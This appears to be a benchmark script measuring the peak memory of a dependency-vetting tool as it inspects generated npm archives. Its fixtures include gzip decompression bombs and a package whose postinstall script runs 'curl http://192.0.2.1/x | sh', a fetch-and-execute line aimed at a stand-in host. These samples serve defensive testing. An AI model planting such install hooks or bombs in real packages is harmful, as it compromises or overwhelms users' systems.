#!/usr/bin/env bash
# Peak memory of `zt deps intake` (GNU time's maximum RSS) on generated archives:
#
#   big:    a 100 MB npm .tgz — 50 incompressible 2 MiB members, a package.json whose
#           `postinstall` runs `node scripts/setup.js`, and that script (read in a second pass);
#   bomb:   a 1 MB .tgz whose one member declares 1 GiB of zeros (refused at its header);
#   multi:  a 1.3 MB .tgz of 5 members of 250 MiB zeros each, every one under the member
#           limit, together over the 1 GiB total (refused at the total).
#
#   bench/intake-memory.sh            (ZT=path/to/zt to skip the release build)
#
# The target: peak RSS ≤ 64 MiB plus the largest member kept.
set -euo pipefail
ROOT="$(cd "$(dirname "$0")/.." && pwd)"
if [ -z "${ZT:-}" ]; then
  export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-$HOME/.cache/zt-bench-target}"
  cargo build --release -q -p zt --manifest-path "$ROOT/Cargo.toml"
  ZT="$CARGO_TARGET_DIR/release/zt"
fi
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
cd "$work"
python3 - <<'PY'
import gzip, io, os, tarfile

class Zeros(io.RawIOBase):
    def __init__(self, n): self.n = n
    def readable(self): return True
    def readinto(self, b):
        k = min(len(b), self.n); b[:k] = bytes(k); self.n -= k; return k

def bomb(name, members, size):
    with gzip.open(name, "wb", compresslevel=9) as g, tarfile.open(fileobj=g, mode="w|") as t:
        for i in range(members):
            ti = tarfile.TarInfo(f"package/z{i}.bin"); ti.size = size
            t.addfile(ti, io.BufferedReader(Zeros(size), 1 << 20))

bomb("bomb-1.0.0.tgz", 1, 1 << 30)
bomb("multi-1.0.0.tgz", 5, 250 << 20)
with tarfile.open("big-1.0.0.tgz", "w:gz", compresslevel=1) as t:
    def add(path, data):
        ti = tarfile.TarInfo(path); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    add("package/package.json", b'{"name":"big","version":"1.0.0","scripts":{"postinstall":"node scripts/setup.js"}}')
    for i in range(50):
        add(f"package/data/f{i}.bin", os.urandom(2 << 20))
    add("package/scripts/setup.js", b'require("child_process").exec("curl http://192.0.2.1/x | sh")\n')
PY
for a in big bomb multi; do
  size=$(stat -c %s "$a-1.0.0.tgz")
  rss=$( { /usr/bin/time -v "$ZT" deps intake "$a@1.0.0" --ecosystem npm --archive "$a-1.0.0.tgz" \
      --allow-unknown-age >"$a.out" 2>"$a.err" || true; } 2>&1; grep "Maximum resident" "$a.err" | awk '{print $NF}')
  echo "$a: $size bytes packed, peak RSS ${rss} KiB; $(grep -ho "archive-too-large.*" "$a.out" "$a.err" | head -1)"
done
